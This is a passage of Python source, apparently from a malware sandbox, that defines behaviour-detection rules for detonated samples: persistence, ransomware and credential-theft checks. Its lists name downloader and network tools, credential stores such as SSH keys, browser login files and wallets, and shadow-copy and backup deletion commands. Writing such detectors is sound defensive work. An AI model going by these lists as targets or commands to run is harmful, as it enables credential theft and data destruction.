"""Behaviour -> findings: the explicit list of detonation rules.

Standard library only (runs inside the guest).  Pure: no I/O, no clock.

Events come from :mod:`mailvm.guest.monitor` (strace), the fakenet log and
:mod:`mailvm.guest.wine`; a :class:`RuleEngine` is fed them one at a time (so
the detonation can stop at the first conclusive finding) and keeps one
:class:`~mailvm.verdict.Finding` per rule id, with the first few details and a
count.  :func:`evaluate` runs a whole list (the unit tests use it).

Every rule is a :class:`Rule` row in :data:`RULES` (id, severity, the
behaviour in words, an example, the behaviour families it belongs to);
``docs/guest-rules.md`` is the same table.  Behaviours that corroborate each
other add up through explicit combination rules (:data:`COMBOS`): when
findings of all the families a combination names are present, the engine adds
its ``combo_*`` finding (persistence plus C2, credential access plus
exfiltration, a self-copy plus C2...), whose severity makes the verdict.
Engine-level findings (``timed_out``, ``no_launcher``...) are listed in
:data:`ENGINE_FINDINGS`.

Windows samples run under Wine: its trace channels (:mod:`mailvm.guest.wine`)
give ``exec`` (``src: wine``, Windows paths), ``api`` (a few relayed API
calls), ``reg_set``/``reg_open``/``reg_query``; strace gives the files
(wineserver opens them, with unix paths inside the prefix, see
:mod:`mailvm.guest.winpath`).
"""

from __future__ import annotations

import ipaddress
import logging
import posixpath
import re
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

from mailvm.guest.winpath import win_to_unix
from mailvm.verdict import Finding

log = logging.getLogger(__name__)

SOURCE = "detonation"
MAX_DETAILS = 3

HOME = "/home/user"
WORK = "/work"
FAKE_DNS_POOL = ipaddress.ip_network("198.18.0.0/15")
PAYLOAD_MARKER = "mailvm-fakenet-payload-executed"  # keep in step with fakenet.PAYLOAD_MARKER

SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "fish", "busybox", "ash"}
INTERPRETERS = {"python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "wish",
                "pwsh", "osascript"}
DOWNLOADERS = {"curl", "wget", "nc", "ncat", "netcat", "socat", "tftp", "ftp"}
WIN_SHELLS = {"cmd.exe", "powershell.exe", "pwsh.exe", "wscript.exe", "cscript.exe", "mshta.exe", "rundll32.exe",
              "regsvr32.exe", "certutil.exe", "bitsadmin.exe", "schtasks.exe", "msiexec.exe", "wmic.exe"}
PRIV_TOOLS = {"sudo", "su", "pkexec", "doas", "runuser"}
VM_TOOLS = {"systemd-detect-virt", "virt-what", "dmidecode", "imvirt", "vmware-checkvm", "vmtoolsd", "lshw",
            "hostnamectl", "dmesg"}
USER_DIRS = ("Documents", "Desktop", "Pictures", "Downloads", "Music", "Videos")
WRITE_OPS = {"write", "rename", "unlink", "chmod", "mkdir", "link", "rmdir"}
SAFE_WRITE_PREFIXES = ("/tmp/", "/var/tmp/", "/dev/shm/", "/dev/null", "/dev/tty", "/dev/pts/", "/dev/zero",
                       "/dev/full", "/dev/random", "/dev/urandom", "/proc/self/", "/proc/thread-self/")
#: a Windows user's scratch and browser-cache folders (relative to C:\users\user): writes there are not of note
WIN_SCRATCH = ("Temp", "AppData/Local/Temp", "AppData/Local/Microsoft/Windows/INetCache",
               "AppData/Local/Microsoft/Windows/INetCookies", "AppData/Local/Microsoft/Windows/History",
               "AppData/Local/Microsoft/Windows/WebCache", "AppData/Roaming/Microsoft/Windows/Cookies")
#: Wine's own processes (their events are not the sample's); not start.exe: a shortcut's target is its child
WIN_HELPERS = frozenset({"services.exe", "winedevice.exe", "explorer.exe", "plugplay.exe", "svchost.exe", "rpcss.exe",
                         "wineboot.exe", "winemenubuilder.exe", "conhost.exe", "tabtip.exe", "winedbg.exe"})
WINE_LOADERS = {"wine", "wine64", "wine64-preloader", "wine-preloader"}
#: what fakenet's stand-ins are: executables and scripts (a fetched one is a download of code)
CODE_STANDINS = frozenset({"pe_exe", "pe_dll", "elf", "msi", "sh", "ps1", "vbs", "js", "wsf", "hta", "bat", "py"})
#: the same, when a web page (a viewer) fetched it: scripts of web pages are not code downloads
VIEWER_CODE_STANDINS = CODE_STANDINS - {"js", "py", "sh"}


@dataclass(frozen=True)
class RuleContext:
    """What the rules know about this detonation (paths are inside the sandbox)."""

    work_dir: str = WORK
    home: str = HOME
    sample_path: str = ""
    launcher: str = ""
    role: str = "program"  # program | script | viewer
    platform: str = "linux"  # linux | windows
    viewer_exes: frozenset[str] = frozenset()
    quiet_prefixes: tuple[str, ...] = ()
    decoys: tuple[str, ...] = ()
    nproc_limit: int = 512
    ignore_names: frozenset[str] = frozenset({"localhost"})  # own host names: not network activity
    wine_prefix: str = HOME + "/.wine"

    @property
    def win_user_dir(self) -> str:
        return self.wine_prefix.rstrip("/") + "/drive_c/users/user"


@dataclass
class State:
    """What earlier events established (updated before the rules see an event)."""

    written: dict[str, float] = field(default_factory=dict)
    written_ci: dict[str, str] = field(default_factory=dict)  # lower-case -> path (Windows compares without case)
    exec_bit: set[str] = field(default_factory=set)
    payload_t: float | None = None
    downloaded: set[str] = field(default_factory=set)
    dns: dict[str, str] = field(default_factory=dict)  # fake address -> name
    user_files: set[str] = field(default_factory=set)
    clone_failures: int = 0
    forks: int = 0
    alive: int = 1  # processes of the sample alive now (the first one included)
    max_alive: int = 1
    inet_binds: dict[str, str] = field(default_factory=dict)  # socket id -> ip:port
    raw_conn_pids: set[int] = field(default_factory=set)  # processes that connected to a raw IP or a C2 port
    sample_reads: int = 0  # opens of the sample's own file (or /proc/self/exe) for reading
    self_read_t: float | None = None  # when the sample read its own file beyond its start-up
    self_copies: set[str] = field(default_factory=set)
    suspended: list[str] = field(default_factory=list)  # processes created suspended (Windows)
    remote_writes: int = 0  # writes into / unmappings in / new threads in another process
    remote_contexts: int = 0  # thread contexts set in another process's thread
    proc_exe: dict[int, str] = field(default_factory=dict)  # pid -> program name (from exec events)
    conn_pids: dict[str, set[int]] = field(default_factory=dict)  # ip:port -> processes that connected there
    written_by: dict[int, list[str]] = field(default_factory=dict)  # pid -> files it opened for writing
    downloader_pids: set[int] = field(default_factory=set)  # processes whose connection got a stand-in
    payload_dsts: set[str] = field(default_factory=set)  # ip:port that served a stand-in
    cred_misses: set[str] = field(default_factory=set)  # credential stores looked for but absent
    built: set[str] = field(default_factory=set)  # files written by a compiler or linker the sample ran

    def update(self, ev: dict[str, Any], ctx: RuleContext) -> None:
        typ = ev.get("type")
        t = _time(ev)
        if typ == "exec" and ev.get("ok", True) and ev.get("src") != "wine":
            pid = ev.get("pid")
            if isinstance(pid, int) and len(self.proc_exe) < 10_000:
                self.proc_exe[pid] = prog_name(_s(ev.get("path")))
        if typ == "file" and ev.get("ok", True):
            op = ev.get("op")
            path = _s(ev.get("path"))
            pid = ev.get("pid") if isinstance(ev.get("pid"), int) else None
            if op in ("write", "link"):
                self._wrote(path, t, ctx, pid)
            elif op == "rename":
                self._wrote(_s(ev.get("path2")), t, ctx, pid)
            elif op == "chmod" and ev.get("exec_bit"):
                self.exec_bit.add(path)
            elif op == "read" and ctx.platform == "linux" and path in (ctx.sample_path, "/proc/self/exe"):
                self.sample_reads += 1
                # an ELF's own image is mapped by the kernel, a script is read by its interpreter (Python
                # opens it twice, sh once): a read beyond that is the sample copying itself (shell scripts
                # copy themselves with cp, seen by the exec branch of the rule)
                needed = 1 if ctx.role == "program" else 3
                if self.sample_reads >= needed and self.self_read_t is None:
                    self.self_read_t = t
            if op in ("write", "rename", "unlink") and is_user_file(path, ctx):
                if len(self.user_files) < 10_000:
                    self.user_files.add(path)
        elif typ == "http" and ev.get("served") == "payload" or typ == "ftp" and ev.get("command") == "RETR":
            if self.payload_t is None:
                self.payload_t = t
            # the process that fetched it may have opened its output file before asking (wget -O, curl -o);
            # strace's and fakenet's logs are read separately, so the connect may come before or after this
            if len(self.payload_dsts) < 10_000:
                self.payload_dsts.add(_s(ev.get("dst")))
            for pid in self.conn_pids.get(_s(ev.get("dst")), ()):
                self._downloader(pid)
        elif typ == "dns" and ev.get("answer"):
            if len(self.dns) < 50_000:
                self.dns[_s(ev["answer"])] = _s(ev.get("name"))
        elif typ == "bind" and ev.get("ok", True) and ev.get("socket") and len(self.inet_binds) < 10_000:
            self.inet_binds[_s(ev["socket"])] = _s(ev.get("dst"))
        elif typ == "connect" and isinstance(ev.get("pid"), int) and len(self.raw_conn_pids) < 10_000:
            r = _remote_ip(ev)
            if r is not None and (_raw_ip_target(ev, r, self) or r[1] in C2_PORTS):
                self.raw_conn_pids.add(ev["pid"])
            if ev.get("dst") and len(self.conn_pids) < 10_000:
                self.conn_pids.setdefault(_s(ev["dst"]), set()).add(ev["pid"])
                if _s(ev["dst"]) in self.payload_dsts:
                    self._downloader(ev["pid"])
        elif typ == "clone_failed":
            self.clone_failures += 1
        elif typ == "fork":
            self.forks += 1
            self.alive += 1
            self.max_alive = max(self.max_alive, self.alive)
        elif typ == "exit":
            self.alive = max(0, self.alive - 1)
        elif typ == "api" and ev.get("proc") not in WIN_HELPERS:
            fn = _s(ev.get("fn"))
            args = ev.get("args") or []
            if fn in ("CreateProcessA", "CreateProcessW") and len(args) > 5 and _hex(args[5]) & CREATE_SUSPENDED:
                if len(self.suspended) < 100:
                    self.suspended.append(_s(args[0]) if _s(args[0]) not in ("", "0x0") else _s(args[1]))
            elif fn in REMOTE_WRITE_APIS:
                self.remote_writes += 1
            elif fn in REMOTE_CONTEXT_APIS:
                self.remote_contexts += 1

    def _downloader(self, pid: int) -> None:
        if len(self.downloader_pids) < 10_000:
            self.downloader_pids.add(pid)
        self.downloaded.update(self.written_by.get(pid, ()))

    def _wrote(self, path: str, t: float, ctx: RuleContext, pid: int | None = None) -> None:
        if not path or len(self.written) >= 100_000:
            return
        self.written.setdefault(path, t)
        self.written_ci.setdefault(path.lower(), path)
        if pid is not None:
            mine = self.written_by.setdefault(pid, [])
            if len(mine) < 100:
                mine.append(path)
            if self.proc_exe.get(pid) in TOOLCHAIN and len(self.built) < 10_000:
                self.built.add(path)
        if self.payload_t is not None and t >= self.payload_t or pid in self.downloader_pids:
            self.downloaded.add(path)
        if self.self_read_t is not None and t >= self.self_read_t and len(self.self_copies) < 1000 and (
                self_copy_place(path, ctx)):
            self.self_copies.add(path)

    def was_written(self, path: str, ctx: RuleContext) -> str | None:
        """The written path ``path`` names (case-insensitively for a Windows sample), or None."""
        if path in self.written:
            return path
        if ctx.platform == "windows":
            return self.written_ci.get(path.lower())
        return None


Check = Callable[[dict[str, Any], RuleContext, State], "str | None"]


@dataclass(frozen=True)
class Rule:
    """One behaviour: which event types it reads, how bad it is, how it is recognised."""

    id: str
    severity: int
    types: frozenset[str]
    check: Check
    behaviour: str
    example: str
    families: frozenset[str] = frozenset()


@dataclass(frozen=True)
class Combo:
    """Corroborating behaviours: when every group has a finding (of any family in the group), ``id`` fires."""

    id: str
    severity: int
    groups: tuple[frozenset[str], ...]
    behaviour: str


# ------------------------------------------------------------------ helpers


#: where a program copies itself to hide or to persist (HOME-relative), besides a copy under its own name
SELF_COPY_HOME = (".local/bin", "bin", ".local/share", ".config")
SELF_COPY_ABS = ("/usr/local/bin", "/usr/local/sbin", "/usr/bin", "/usr/sbin", "/bin", "/sbin", "/etc", "/opt")


def self_copy_place(path: str, ctx: RuleContext) -> bool:
    """Is a file written after the sample read its own file a copy of it?  Its own name, or a place where
    programs hide or persist (not a scratch directory: self-extracting programs unpack there)."""
    if not path.startswith("/") or under(path, ctx.work_dir) or path.startswith(("/dev/", "/proc/")):
        return False
    if ctx.sample_path and base(path) == base(ctx.sample_path):
        return True
    if in_home(path, ctx, *SELF_COPY_HOME) or any(under(path, a) for a in SELF_COPY_ABS):
        return True
    home = ctx.home.rstrip("/") + "/"
    return path.startswith(home) and path[len(home):].startswith(".") and not in_home(path, ctx, ".cache")


def _s(v: Any) -> str:
    return v if isinstance(v, str) else ("" if v is None else str(v))


def _time(ev: dict[str, Any]) -> float:
    v = ev.get("t")
    if isinstance(v, (int, float)) and not isinstance(v, bool) and v == v:
        return float(v)
    return 0.0


def _hex(v: Any) -> int:
    """A relay argument (``0x1f``) as a number; 0 when it is not one (32-bit values: upper garbage dropped)."""
    try:
        return int(_s(v), 16) & 0xFFFFFFFF
    except ValueError:
        return 0


def base(path: str) -> str:
    return posixpath.basename(_s(path).rstrip("/"))


def prog_name(path: str) -> str:
    """``/usr/bin/python3.11`` -> ``python3``; ``C:\\x\\CMD.EXE`` -> ``cmd.exe``."""
    b = base(_s(path).replace("\\", "/")).lower()
    m = re.match(r"^(python[23]?|perl|ruby|php|lua|node)(\d[\d.]*)?$", b)
    return m.group(1) if m else b


def under(path: str, prefix: str) -> bool:
    prefix = prefix.rstrip("/")
    return path == prefix or path.startswith(prefix + "/")


def in_home(path: str, ctx: RuleContext, *rel: str) -> bool:
    return any(under(path, posixpath.join(ctx.home, r)) for r in rel)


def is_user_file(path: str, ctx: RuleContext) -> bool:
    return path in ctx.decoys or in_home(path, ctx, *USER_DIRS)


def quiet(path: str, prefixes: Iterable[str]) -> bool:
    """Is ``path`` one the launcher writes itself?

    An entry is a file or a directory (the path itself or anything below it);
    an entry ending in ``*`` is a plain string prefix (``/tmp/wine-*``).
    """
    for q in prefixes:
        if q.endswith("*"):
            if path.startswith(q[:-1]):
                return True
        elif under(path, q):
            return True
    return False


def _quiet(path: str, ctx: RuleContext) -> bool:
    return quiet(path, ctx.quiet_prefixes)


def _written_path(ev: dict[str, Any]) -> str:
    return _s(ev.get("path2")) if ev.get("op") in ("rename",) else _s(ev.get("path"))


def _attempt(ev: dict[str, Any]) -> str:
    return "" if ev.get("ok", True) else f" (attempt: {_s(ev.get('err'))})"


def _is_write(ev: dict[str, Any]) -> bool:
    return ev.get("op") in ("write", "rename", "link", "chmod", "mkdir")


def _exec_names(ev: dict[str, Any]) -> tuple[str, str]:
    """(program name, parent program name) of an exec event."""
    return prog_name(_s(ev.get("path"))), prog_name(_s(ev.get("parent_exe")))


def _argv_text(ev: dict[str, Any]) -> str:
    return " ".join(_s(a) for a in ev.get("argv") or [])[:400]


def _exec_targets(ev: dict[str, Any], ctx: RuleContext) -> list[str]:
    """Unix paths an exec event starts: the file, a script in an interpreter's argv, a Windows program
    (Wine's process trace or the Wine loader's argv, mapped into the prefix)."""
    if ev.get("type") != "exec":
        return []
    if ev.get("src") == "wine":
        if ev.get("proc") in WIN_HELPERS:
            return []
        out = [win_to_unix(_s(ev.get("path")), ctx.wine_prefix, ctx.home)]
        argv = ev.get("argv") or []
        if argv:  # "cmd /c C:\x.bat", "wscript C:\x.vbs": a script named in the command line
            for tok in _win_tokens(_s(argv[0]))[1:6]:
                if ":" in tok:
                    out.append(win_to_unix(tok, ctx.wine_prefix, ctx.home))
        return [p for p in out if p]
    if not ev.get("ok", True):
        return []
    paths = _executed_paths(ev)
    argv = [_s(a) for a in ev.get("argv") or []]
    if prog_name(_s(ev.get("path"))) in WINE_LOADERS:
        for a in argv[1:3]:
            if len(a) > 2 and a[1] == ":":
                mapped = win_to_unix(a, ctx.wine_prefix, ctx.home)
                if mapped:
                    paths.append(mapped)
    return paths


def _win_tokens(cmdline: str) -> list[str]:
    """A Windows command line split at spaces outside double quotes (quotes removed)."""
    out, cur, quoted = [], "", False
    for c in cmdline[:2000]:
        if c == '"':
            quoted = not quoted
        elif c == " " and not quoted:
            if cur:
                out.append(cur)
            cur = ""
        else:
            cur += c
    if cur:
        out.append(cur)
    return out


def _is_ip(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
    try:
        return ipaddress.ip_address(text)
    except ValueError:
        return None


# ------------------------------------------------------------------ checks: persistence


def _path_rule(prefixes_home: tuple[str, ...], absolute: tuple[str, ...], names_home: tuple[str, ...] = ()) -> Check:
    def check(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
        if not _is_write(ev):
            return None
        path = _written_path(ev)
        hit = (in_home(path, ctx, *prefixes_home) or any(under(path, a) for a in absolute)
               or any(path == posixpath.join(ctx.home, n) for n in names_home))
        return f"{ev.get('op')} {path}{_attempt(ev)}" if hit else None
    return check


def _cron(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        name = prog_name(_s(ev.get("path")))
        argv = [_s(a) for a in ev.get("argv") or []]
        if name == "crontab" and not any(a in ("-l", "-r") for a in argv[1:]):
            return "crontab " + " ".join(argv[1:])[:200] + _attempt(ev)
        if name == "at" or name == "batch":
            return "exec " + " ".join(argv)[:200]
        return None
    if ev.get("op") == "probe" and base(_s(ev.get("path"))) == "crontab" and _s(ev.get("path")).startswith(
            ("/usr/", "/bin/", "/sbin/")):
        # a shell looks the command up before exec: where cron is not installed that is all there is
        return f"looked up {ev.get('path')} to run it{_attempt(ev)}"
    return _path_rule((), ("/etc/crontab", "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly",
                           "/etc/cron.monthly", "/var/spool/cron", "/etc/anacrontab"))(ev, ctx, st)


def _systemd(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        argv = [_s(a) for a in ev.get("argv") or []]
        if prog_name(_s(ev.get("path"))) == "systemctl" and any(a in ("enable", "link", "edit") for a in argv):
            return "systemctl " + " ".join(argv[1:])[:200]
        return None
    return _path_rule((".config/systemd", ".local/share/systemd"),
                      ("/etc/systemd", "/lib/systemd", "/usr/lib/systemd", "/etc/init.d", "/etc/rc.local",
                       "/etc/init"))(ev, ctx, st)


RUN_KEY_RE = re.compile(
    r"\\(currentversion\\(run|runonce|runservices|runservicesonce|policies\\explorer\\run)"
    r"|windows nt\\currentversion\\(winlogon|image file execution options|windows))(\\|$)", re.I)
WINLOGON_VALUES = {"shell", "userinit", "taskman", "appinit_dlls", "load", "run", "debugger"}


def _registry_run(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    key = _s(ev.get("key"))
    m = RUN_KEY_RE.search(key)
    if not m:
        return None
    value = _s(ev.get("value"))
    if m.group(3) and value.lower() not in WINLOGON_VALUES:  # Winlogon/IFEO/Windows: only the hijackable values
        return None
    data = _s(ev.get("data"))
    return f"{key}\\{value}" + (f" = {data[:200]}" if data else "")


def _startup_folder(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _is_write(ev):
        return None
    path = _written_path(ev)
    if "/start menu/programs/startup/" in path.lower().replace("\\", "/") + "/" and not path.lower().endswith(
            "/startup"):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


def _prog(ev: dict[str, Any]) -> str:
    """The started program's name, lower case, ``.exe`` dropped (Wine's ``stage: request`` names it bare)."""
    name = prog_name(_s(ev.get("path")))
    if ev.get("src") == "wine" and not name:
        name = prog_name(_first_word(ev))
    return name[:-4] if name.endswith(".exe") else name


def _first_word(ev: dict[str, Any]) -> str:
    argv = ev.get("argv") or []
    toks = _win_tokens(_s(argv[0])) if argv else []
    return toks[0] if toks else ""


EXECS = ("exec", "exec_request")


def _scheduled_task(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") in EXECS:
        if not ev.get("ok", True) and ev.get("err") == "ENOENT" or ev.get("proc") in WIN_HELPERS:
            return None
        name, text = _prog(ev), _argv_text(ev).lower()
        if name == "schtasks" and "/create" in text or name == "at" and ev.get("src") == "wine" or (
                "register-scheduledtask" in text or "new-scheduledtask" in text):
            return f"{name}: {_argv_text(ev)[:200]}"
        return None
    if _is_write(ev) and "/drive_c/windows/system32/tasks/" in _written_path(ev).lower():
        return f"{ev.get('op')} {_written_path(ev)}{_attempt(ev)}"
    return None


SERVICE_KEY_RE = re.compile(r"^HKLM\\System\\(?:CurrentControlSet|ControlSet\d+)\\Services\\[^\\]+(?:\\Parameters)?$",
                            re.I)
SC_CREATE_RE = re.compile(r"\b(create|config)\b.*\bbinpath\s*=", re.I)


def _service(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    if typ in EXECS:
        if ev.get("proc") in WIN_HELPERS:
            return None
        name, text = _prog(ev), _argv_text(ev)
        if name == "sc" and SC_CREATE_RE.search(text) or "new-service" in text.lower():
            return f"{name}: {text[:200]}"
        return None
    if typ == "reg_set":
        key, value = _s(ev.get("key")), _s(ev.get("value"))
        if SERVICE_KEY_RE.match(key) and value.lower() in ("imagepath", "servicedll"):
            data = _s(ev.get("data"))
            return f"{key}\\{value}" + (f" = {data[:200]}" if data else "")
        return None
    if typ == "api" and _s(ev.get("fn")).startswith("CreateService") and ev.get("proc") not in WIN_HELPERS:
        args = ev.get("args") or []
        return f"CreateService {_s(args[1]) if len(args) > 1 else ''} -> {_s(args[7]) if len(args) > 7 else ''}"
    return None


# ------------------------------------------------------------------ checks: files


def _outside_workdir(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") not in WRITE_OPS:
        return None
    path = _written_path(ev)
    if not path.startswith("/") or under(path, ctx.work_dir) or _quiet(path, ctx) or in_home(path, ctx, ".cache"):
        return None
    if in_home(path, ctx, ".fontconfig") or under(path, "/var/cache/fontconfig"):
        return None  # fontconfig refreshing its caches for whoever draws text (Wine's 32-bit side does)
    if ev.get("op") == "mkdir" and any(q.startswith(path.rstrip("/") + "/") for q in ctx.quiet_prefixes):
        return None  # a folder on the way to one the launcher writes itself (~/.local/share/applications/wine)
    if ctx.platform == "windows" and any(under(path.lower(), (ctx.win_user_dir + "/" + d).lower())
                                         for d in WIN_SCRATCH):
        return None
    if any(path == p.rstrip("/") or path.startswith(p) for p in SAFE_WRITE_PREFIXES):
        return None
    if path.startswith("/proc/") and not path.startswith("/proc/sys/") and not path.endswith("/mem"):
        return None  # thread names, oom_score_adj...: the process's own settings
    return f"{ev.get('op')} {path}{_attempt(ev)}"


def _authorized_keys(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _is_write(ev):
        return None
    path = _written_path(ev)
    if base(path) in ("authorized_keys", "authorized_keys2") and ("/.ssh/" in path or path.startswith("/etc/ssh")):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


def _user_file_modified(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") in ("write", "rename", "unlink") and is_user_file(_s(ev.get("path")), ctx):
        return f"{ev.get('op')} {ev.get('path')}{_attempt(ev)}"
    return None


MASS_MODIFICATION_MIN = 5


def _mass_modification(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") in ("write", "rename", "unlink") and is_user_file(_s(ev.get("path")), ctx):
        if len(st.user_files) >= MASS_MODIFICATION_MIN:
            return f"{len(st.user_files)} user files modified, renamed or deleted (e.g. {ev.get('path')})"
    return None


RANSOM_NOTE_RE = re.compile(
    r"(decrypt|ransom|restore[_ -]?(my|your)?[_ -]?files|recover[_ -]?(my|your)?[_ -]?files|unlock|your[_ -]?files"
    r"|files[_ -]?(are[_ -]?)?encrypted|how[_ -]?to[_ -]?(back|get|decrypt|restore|recover|unlock)|!+[_ -]?read)"
    r"[^/]*\.(txt|html?|hta|rtf|url)$", re.I)


def _ransom_note(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") not in ("write", "rename"):
        return None
    path = _written_path(ev)
    if not RANSOM_NOTE_RE.search(base(path)):
        return None
    if in_home(path, ctx, *USER_DIRS) or under(path.lower(), (ctx.win_user_dir).lower()) or under(
            path.lower(), ctx.wine_prefix.lower() + "/drive_c/users/public"):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


SHADOW_DELETE_RE = re.compile(
    r"vssadmin(?:\.exe)?\W+(?:delete\s+shadows|resize\s+shadowstorage)|wmic(?:\.exe)?\W+shadowcopy\s+delete"
    r"|bcdedit(?:\.exe)?\W.*(?:recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures)"
    r"|wbadmin(?:\.exe)?\W+delete\s+(?:catalog|systemstatebackup|backup)|win32_shadowcopy.*delete"
    r"|remove-wmiobject.*shadow",
    re.I)


def _shadow_copies(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("proc") in WIN_HELPERS:
        return None
    text = _argv_text(ev)
    m = SHADOW_DELETE_RE.search(text)
    return f"{text[:200]}{_attempt(ev)}" if m else None


def _self_delete(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") == "unlink" and ctx.sample_path and _s(ev.get("path")) == ctx.sample_path:
        return f"unlink {ctx.sample_path}{_attempt(ev)}"
    return None


SECRETS_HOME = (".ssh/id_", ".gnupg/", ".aws/credentials", ".kube/config", ".docker/config.json", ".netrc",
                ".git-credentials", ".bitcoin/wallet.dat", ".electrum/", ".config/google-chrome/",
                ".config/chromium/", ".config/BraveSoftware/", ".mozilla/firefox/", ".password-store/",
                ".local/share/keyrings/", ".purple/accounts.xml", ".config/filezilla/", ".thunderbird/")
SECRET_FILES_MOZ = ("logins.json", "key4.db", "key3.db", "cookies.sqlite", "signons.sqlite")
SECRETS_ABS = ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_")


CHROMIUM_FILES = frozenset({"Login Data", "Login Data For Account", "Cookies", "Web Data", "Local State"})
WIN_SECRETS: tuple[tuple[str, frozenset[str] | None], ...] = (
    ("AppData/Local/Google/Chrome/User Data/", CHROMIUM_FILES),
    ("AppData/Local/Microsoft/Edge/User Data/", CHROMIUM_FILES),
    ("AppData/Local/BraveSoftware/Brave-Browser/User Data/", CHROMIUM_FILES),
    ("AppData/Local/Chromium/User Data/", CHROMIUM_FILES),
    ("AppData/Local/Yandex/YandexBrowser/User Data/", CHROMIUM_FILES | {"Ya Passman Data"}),
    ("AppData/Roaming/Opera Software/", CHROMIUM_FILES),
    ("AppData/Roaming/Mozilla/Firefox/", frozenset({"logins.json", "key4.db", "key3.db", "signons.sqlite",
                                                     "cookies.sqlite"})),
    ("AppData/Roaming/Thunderbird/", frozenset({"logins.json", "key4.db", "key3.db", "signons.sqlite", "prefs.js"})),
    ("AppData/Local/Microsoft/Outlook/", None), ("AppData/Roaming/Microsoft/Outlook/", None),
    ("AppData/Roaming/FileZilla/", frozenset({"sitemanager.xml", "recentservers.xml", "filezilla.xml"})),
    ("AppData/Roaming/WinSCP.ini", None), ("AppData/Roaming/Electrum/", None), ("AppData/Roaming/Exodus/", None),
    ("AppData/Roaming/Bitcoin/", frozenset({"wallet.dat"})), ("AppData/Roaming/Microsoft/Credentials/", None),
    ("AppData/Local/Microsoft/Credentials/", None), ("AppData/Roaming/Microsoft/Protect/", None),
    ("AppData/Roaming/.purple/", frozenset({"accounts.xml"})), ("AppData/Roaming/Psi+/", None),
)
CREDENTIAL_KEY_RE = re.compile(r"\\SimonTatham\\PuTTY\\Sessions|\\Martin Prikryl\\WinSCP 2\\Sessions"
                               r"|\\Outlook\\Profiles"
                               r"|\\Windows Messaging Subsystem\\Profiles|\\Internet Account Manager\\Accounts"
                               r"|\\(?:TightVNC|RealVNC)\\|\\ORL\\WinVNC|\\FileZilla", re.I)


def _win_secret(path: str, ctx: RuleContext) -> bool:
    """A Windows credential store: under the Wine user's profile, or where Mono puts a .NET program's
    %APPDATA% (~/.config) and %LOCALAPPDATA% (~/.local/share)."""
    low = path.lower()
    home = ctx.home.rstrip("/")
    for root, win in ((ctx.win_user_dir + "/", ""), (home + "/.config/", "AppData/Roaming/"),
                      (home + "/.local/share/", "AppData/Local/")):
        if not low.startswith(root.lower()):
            continue
        rel = (win + path[len(root):]).lower()
        for prefix, names in WIN_SECRETS:
            if rel.startswith(prefix.lower()) or rel == prefix.lower().rstrip("/"):
                return names is None or base(path) in names
    return False


CREDENTIAL_SWEEP_MIN = 3


def _credential_target(path: str, ctx: RuleContext) -> bool:
    if _win_secret(path, ctx):
        return True
    if path.startswith(ctx.home.rstrip("/") + "/"):
        rel = path[len(ctx.home.rstrip("/")) + 1:]
        for sec in SECRETS_HOME:
            if rel.startswith(sec):
                if sec in (".mozilla/firefox/", ".thunderbird/"):
                    return base(path) in SECRET_FILES_MOZ
                if sec.startswith(".config/") and sec != ".config/filezilla/":
                    return base(path) in ("Login Data", "Cookies", "Web Data", "Local State")
                return True
        return False
    return any(path.startswith(a) for a in SECRETS_ABS)


#: stores their own tools read (GnuPG's keyring by gpg, gpgsm...): that is not credential theft
OWN_STORE_TOOLS: tuple[tuple[str, frozenset[str]], ...] = (
    ("/.gnupg", frozenset({"gpg", "gpg2", "gpgsm", "gpg-agent", "gpgconf", "dirmngr", "keyboxd", "gpgv", "gpg-connect-agent"})),
)


def _own_store(path: str, ev: dict[str, Any], st: State) -> bool:
    prog = st.proc_exe.get(ev.get("pid")) if isinstance(ev.get("pid"), int) else None
    return bool(prog) and any(marker in path and prog in tools for marker, tools in OWN_STORE_TOOLS)


def _credential_access(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "reg_open":
        key = _s(ev.get("key"))
        if CREDENTIAL_KEY_RE.search(key) and ev.get("proc") not in WIN_HELPERS and not ev.get("create"):
            return f"registry {key}" + ("" if ev.get("ok", True) else " (attempt: no such key)")
        return None
    path = _s(ev.get("path"))
    op = ev.get("op")
    if op not in ("read", "probe") or op == "probe" and ctx.platform == "linux":
        return None
    if not _credential_target(path, ctx) or _own_store(path, ev, st):
        return None
    if not ev.get("ok", True) and ev.get("err") in ("ENOENT", "ENOTDIR"):
        # no such store here: one look is not an access (Python's netrc module looks for ~/.netrc), a sweep
        # over several stores is what stealers do
        if len(st.cred_misses) < 1000:
            st.cred_misses.add(path)
        if len(st.cred_misses) >= CREDENTIAL_SWEEP_MIN:
            return f"looked for {len(st.cred_misses)} credential stores that are not there (e.g. {path})"
        return None
    return f"{op} {path}{_attempt(ev)}"


CLEAR_LOG_RE = re.compile(r"wevtutil(?:\.exe)?\W+(?:cl|clear-log)\b|clear-eventlog"
                          r"|fsutil(?:\.exe)?\W+usn\W+deletejournal", re.I)


